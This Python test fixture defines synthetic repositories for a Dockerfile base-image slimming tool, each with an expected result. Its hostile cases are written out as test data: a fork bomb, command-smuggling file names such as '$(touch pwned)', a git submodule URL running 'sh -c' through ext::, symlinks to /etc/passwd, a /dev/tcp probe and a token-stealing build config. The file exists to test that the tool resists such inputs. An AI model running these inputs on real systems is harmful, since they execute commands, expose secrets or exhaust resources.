"""The repositories of the made fleet, each with the result that it has to come to."""

from collections.abc import Mapping

from fleet_world import Content, Link, Repository, Submodule

from stepdown.model.fleet import Result

IMPROVED, GAIN = Result.IMPROVED, Result.NOTHING_TO_GAIN
NONE, ATTENTION = Result.NO_DOCKERFILE, Result.NEEDS_ATTENTION
BROKEN, NO_EVIDENCE = Result.BROKEN, Result.NO_EVIDENCE
RED, NOT_BUILT = Result.BASELINE_RED, Result.BASELINE_NOT_BUILT
TIMEOUT, SKIPPED = Result.TIMEOUT, Result.SKIPPED

SCRIPT = "#!/bin/sh\necho said\nexec sleep 600\n"
SHELL = 'FROM debian:bookworm-slim\nCOPY app.sh /app.sh\nCMD ["/app.sh"]\n'
NODE = 'FROM {base}\nWORKDIR /app\nCOPY . .\nEXPOSE 8080\nCMD ["node", "server.js"]\n'
NODE_FILES = {
    "package.json": '{"name": "web", "version": "1.0.0", "scripts": {"test": "node --test"}}\n',
    "server.js": (
        "require('http').createServer((q, a) => a.end('hello')).listen(8080)\n"
        "process.on('SIGTERM', () => process.exit(0))\n"
    ),
    "one.test.js": "require('node:test')('adds', () => require('assert').equal(1 + 1, 2))\n",
}
PYTHON = 'FROM {base}\nWORKDIR /app\nCOPY . .\nCMD ["python3", "app.py"]\n'
PYTHON_FILES = {
    "app.py": (
        "import signal, sys, time\nsignal.signal(signal.SIGTERM, lambda *_: sys.exit(0))\n"
        "print('up', flush=True)\nwhile True: time.sleep(1)\n"
    ),
    "test_app.py": (
        "import unittest\nclass T(unittest.TestCase):\n"
        "    def test_it(self):\n        self.assertEqual(1 + 1, 2)\n"
    ),
}
GO = (
    "FROM golang:1.24 AS build\nWORKDIR /src\nCOPY . .\n"
    "RUN CGO_ENABLED=0 go build -o /app .\n"
    'FROM debian:bookworm-slim\nCOPY --from=build /app /app\nCMD ["/app"]\n'
)
GO_FILES = {
    "go.mod": "module example.test/app\n\ngo 1.24\n",
    "main.go": 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hello") }\n',
}
POINTER = (
    "version https://git-lfs.github.com/spec/v1\n"
    "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"
)
WIDE = """
recipes = ["recipes"]
[build]
args = { BUILDKIT_SYNTAX = "evil/frontend" }
secrets = [{ id = "token", env = "GITHUB_TOKEN" }]
[checks]
test = "test -x /app.sh"
[policy]
base = "evil:1"
"""


def tested(test: str, **more: str) -> str:
    """A configuration with a test command."""
    extra = "".join(f"{name.replace('_', '-')} = {value}\n" for name, value in more.items())
    return f"[checks]\ntest = '''{test}'''\n{extra}"


def on_alpine(test: str) -> str:
    """The same, for one rung only: what is in the suite need not go down the whole ladder."""
    return f"[policy]\nto = 'alpine'\n{tested(test)}"


def one(  # noqa: PLR0913  (what a repository is made of)
    name: str,
    result: Result,
    dockerfile: str | None = SHELL,
    files: Mapping[str, Content] | None = None,
    *,
    test: str = "test -x /app.sh",
    config: str = "",
    words: str = "",
    told: str = "",
    cheap: bool = False,
) -> Repository:
    """A repository with one Dockerfile at its root, the script and a configuration."""
    some: dict[str, Content] = {} if dockerfile is None else {"Dockerfile": dockerfile}
    some |= {"app.sh": SCRIPT} if files is None else files
    if text := config or (tested(test) if test else ""):
        some["stepdown.toml"] = text
    key = "" if dockerfile is None else "Dockerfile"
    return Repository(
        name=name, expected={key: result}, files=some, words=words, told=told, cheap=cheap
    )


def debian(lines: str, base: str = "debian:bookworm-slim") -> str:
    """The script's image with more lines."""
    return f'FROM {base}\nCOPY app.sh /app.sh\n{lines}CMD ["/app.sh"]\n'


SHELLS = (
    one("shell-slim", IMPROVED),
    one("shell-alpine", IMPROVED, config=on_alpine("test -x /app.sh"), cheap=True),
    one("shell-full", IMPROVED, debian("", "debian:bookworm")),
    one("shell-trixie", IMPROVED, debian("", "debian:trixie-slim")),
    one("shell-selection", IMPROVED, test="", words="test='test -x /app.sh'"),
    one("shell-argument", IMPROVED, "ARG TAG=bookworm-slim\n" + debian("", "debian:${TAG}")),
    one("shell-crlf", IMPROVED, SHELL.replace("\n", "\r\n")),
    one("shell-run", IMPROVED, debian("RUN mkdir -p /srv/data && echo 1 >/srv/data/one\n")),
    one("shell-stages", IMPROVED, "FROM debian:bookworm-slim AS made\nRUN echo 1 >/one\n"
        + debian("COPY --from=made /one /one\n")),
    one("shell-heredoc", IMPROVED, debian("RUN <<EOF\necho one >/one\nEOF\n"), test="test -e /one"),
    one("shell-user", IMPROVED, debian("USER 1000\n")),
    one("shell-weak", IMPROVED, test=""),
)  # fmt: skip
NODES = (
    one("node-slim", IMPROVED, NODE.format(base="node:24-slim"), NODE_FILES, test=""),
    one("node-test", IMPROVED, NODE.format(base="node:24-slim"), NODE_FILES, test="node --test"),
    one("node-limit", IMPROVED, NODE.format(base="node:24-slim"), NODE_FILES,
        config="[policy]\nlimit = 'alpine'\n[checks]\ntest = 'node --test'\n"),
    one("node-full", IMPROVED, NODE.format(base="node:24"), NODE_FILES,
        config="[policy]\nto = 'slim'\n[checks]\ntest = 'node --test'\n"),
)  # fmt: skip
PYTHONS = (
    one("python-slim", IMPROVED, PYTHON.format(base="python:3.13-slim"), PYTHON_FILES,
        test="python3 -m unittest"),
    one("python-weak", IMPROVED, PYTHON.format(base="python:3.13-slim"), PYTHON_FILES, test=""),
    one("python-full", IMPROVED, PYTHON.format(base="python:3.13"), PYTHON_FILES,
        config="[policy]\nto = 'slim'\n[checks]\ntest = 'python3 -m unittest'\n"),
)  # fmt: skip
GOES = (
    one("go-static", IMPROVED, GO, GO_FILES, test=""),
    one("go-tested", IMPROVED, GO, GO_FILES, test="/app"),
)
HONEST = (
    one("honest-cache", IMPROVED, debian("RUN mkdir -p /var/cache/app\n"),
        config=on_alpine("echo x >/var/cache/app/one"), told="write access to /var/cache/app",
        cheap=True),
    one("honest-volume", IMPROVED, debian("VOLUME /data\n"), test="touch /data/one"),
    one("honest-scratch", IMPROVED, test="cp /app.sh /tmp/copy && /tmp/copy & sleep 1"),
    one("honest-silent", IMPROVED, debian("RUN mkdir /made\n"),
        test="sh -c 'echo x >/made/one' 2>/tmp/lost", told="a file system that it can write to"),
    one("honest-network", NO_EVIDENCE, test="bash -c 'exec 3<>/dev/tcp/example.test/80'",
        told="no network"),
    one("honest-capability", NO_EVIDENCE, test="chown 1:1 /tmp", told="no capabilities"),
    one("honest-nginx", NO_EVIDENCE, "FROM nginx:1.26\nEXPOSE 80\n", {}, test="",
        told="no capabilities"),
    one("honest-git", NO_EVIDENCE, debian("COPY .git/HEAD /head\n"), told="no .git"),
    one("honest-secret", NO_EVIDENCE,
        debian("RUN --mount=type=secret,id=token,required=true cat /run/secrets/token\n")),
)  # fmt: skip
NOTHING = (
    one("nothing-scratch", GAIN, "FROM scratch\nCOPY app.sh /app.sh\n", test="", cheap=True),
    one("nothing-limit", GAIN, config="[policy]\nlimit = 'slim'\n"),
    one("nothing-readme", NONE, None, {"README.md": "words\n"}, test="", cheap=True),
    one("nothing-foreign", NONE, None, {"node_modules/x/Dockerfile": "FROM scratch\n"}, test=""),
    one("nothing-link", NONE, None, {"Dockerfile": Link("/etc/passwd")}, test=""),
    Repository(
        name="nothing-named",
        expected={"no/Dockerfile": NONE},
        files={"README.md": "x"},
        words="dockerfile=no/Dockerfile",
    ),
)
ATTENTION_ = (
    one("attention-syntax", ATTENTION, "FROM debian:bookworm-slim\nNONSENSE x\n", cheap=True),
    one("attention-empty", ATTENTION, ""),
    one("attention-binary", ATTENTION, "FROM x\0y\n"),
    one("attention-config", ATTENTION, config="[checks]\ntset = 'true'\n"),
    one("attention-outside", ATTENTION, config="context = '../..'\n"),
    one("attention-link", ATTENTION, files={"app.sh": SCRIPT, "out": Link("/etc")},
        config="dockerfile = 'out/passwd'\n"),
    one("attention-package", ATTENTION,
        debian("RUN apt-get update && apt-get install -y no-such-package-anywhere || true\n"),
        config="[policy]\nto = 'alpine'\n[checks]\ntest = 'true'\n"),
)  # fmt: skip
BROKENS = (
    one("broken-dpkg", BROKEN, config=on_alpine("dpkg --version"), cheap=True),
    one("broken-file", BROKEN, test="grep -q Debian /etc/os-release && test -e /usr/bin/apt-get"),
    one("broken-entrypoint", BROKEN, SHELL, {"app.sh": "#!/bin/bash\necho up\nexec sleep 600\n"},
        test="bash -c 'dpkg --version'"),
)  # fmt: skip
REDS = (
    one("red-test", RED, test="false", cheap=True),
    one("red-start", RED, SHELL, {"app.sh": "#!/bin/sh\nexit 3\n"}, test=""),
    one("red-missing", RED, test="/no/such/program"),
    one("red-hangs", RED, config=tested("sleep 100", test_timeout="5"), told="hung"),
    one("limit-gigabyte", NO_EVIDENCE, test="dd if=/dev/zero bs=65536 count=16000",
        told="printed more"),
    one("limit-forks", NO_EVIDENCE, config=tested("b() { b | b & }; b; sleep 5; b; wait; false",
        test_timeout="10")),
    one("limit-memory", NO_EVIDENCE, test="tail -c 1500000000 /dev/zero"),
)  # fmt: skip
UNBUILT = (
    one("unbuilt-step", NOT_BUILT, debian("RUN exit 7\n"), cheap=True),
    one("unbuilt-copy", NOT_BUILT, debian("COPY no-such-file /x\n")),
    one("unbuilt-host", NOT_BUILT, debian("RUN --network=host true\n")),
    one("unbuilt-insecure", NOT_BUILT, debian("RUN --security=insecure true\n")),
    one("unbuilt-outside", NOT_BUILT, debian("COPY ../../etc/passwd /x\n")),
    one("unbuilt-link", NOT_BUILT, debian("COPY out /x\n"), {"app.sh": SCRIPT,
        "out": Link("/etc/passwd")}),
    one("timeout-build", TIMEOUT, debian("RUN sleep 100\n"), config="[build]\ntimeout = 5\n"),
)  # fmt: skip
HOSTILE = (
    one("hostile-frontend", SKIPPED, f"# syntax=evil/frontend:1\n{SHELL}", cheap=True),
    one("hostile-config", IMPROVED, config=WIDE, told="is left out"),
    one("hostile-names", IMPROVED, files={
        "app.sh": SCRIPT, "-rf": "x", "a\nb": "x", "$(touch pwned)": "x", "`id`": "x", '"q"': "x",
        "ünï\u202ecode": "x", "x" * 200: "x", ".dockerignore": "!**\n"}),
    one("hostile-context", SKIPPED, files={
        "app.sh": SCRIPT, **{f"zeros-{n}": bytes(60_000_000) for n in range(9)}},
        told="more than 500 MB"),
    one("hostile-submodule", IMPROVED, files={
        "app.sh": SCRIPT, "module": Submodule(),
        ".gitmodules": '[submodule "m"]\n\tpath = module\n\turl = ext::sh -c "touch /pwned"\n'}),
    one("hostile-pointer", IMPROVED, files={
        "app.sh": SCRIPT, "large.bin": POINTER, ".gitattributes": "*.bin filter=lfs diff=lfs\n"}),
)  # fmt: skip
ODD = (
    Repository(name="odd-context", expected={"docker/Dockerfile": IMPROVED},
               files={"docker/Dockerfile": SHELL, "app.sh": SCRIPT, "stepdown.toml":
                      "dockerfile = 'docker/Dockerfile'\ncontext = '.'\n"}),
    Repository(name="odd-empty", expected={"": SKIPPED}, files={}, cheap=True),
    Repository(name="odd-branch", expected={"Dockerfile": IMPROVED}, branch="trunk/of#it",
               files={"Dockerfile": SHELL, "app.sh": SCRIPT}),
    Repository(name="odd-detached", expected={"Dockerfile": IMPROVED}, detached=True,
               files={"Dockerfile": SHELL, "app.sh": SCRIPT}),
    Repository(name="odd-base", expected={"Dockerfile": IMPROVED}, words="base=develop",
               files={"README.md": "the branch has it"},
               others={"develop": {"Dockerfile": SHELL, "app.sh": SCRIPT}}),
    Repository(name="odd-no-branch", expected={"": SKIPPED}, words="base=nowhere",
               files={"Dockerfile": SHELL, "app.sh": SCRIPT}),
    Repository(name="odd-link", expected={"docker/app.dockerfile": IMPROVED},
               files={"Dockerfile": Link("docker/app.dockerfile"), "docker/app.sh": SCRIPT,
                      "docker/app.dockerfile": SHELL}),
    Repository(name="several-services", words="",
               expected={"a/Dockerfile": IMPROVED, "b/Dockerfile": NOT_BUILT,
                         "c/Dockerfile": GAIN},
               files={"a/Dockerfile": SHELL, "a/app.sh": SCRIPT,
                      "b/Dockerfile": "FROM debian:bookworm-slim\nRUN false\n",
                      "c/Dockerfile": "FROM scratch\nCOPY x /x\n", "c/x": "x"}),
    Repository(name="several-one-broken", cheap=True,
               expected={"Dockerfile": NOT_BUILT, "Dockerfile.dev": ATTENTION},
               files={"Dockerfile": "FROM debian:bookworm-slim\nRUN exit 9\n",
                      "Dockerfile.dev": "NOT A DOCKERFILE\n"}),
    Repository(name="several-chosen", words="dockerfile=b.dockerfile",
               expected={"b.dockerfile": IMPROVED},
               files={"Dockerfile": "NONSENSE\n", "b.dockerfile": SHELL, "app.sh": SCRIPT}),
)  # fmt: skip
FLEET = (
    *SHELLS, *NODES, *PYTHONS, *GOES, *HONEST, *NOTHING, *ATTENTION_, *BROKENS, *REDS, *UNBUILT,
    *HOSTILE, *ODD,
)  # fmt: skip


def named(*names: str) -> tuple[Repository, ...]:
    """Those of the fleet with these names."""
    return tuple(one for one in FLEET if one.name in names)
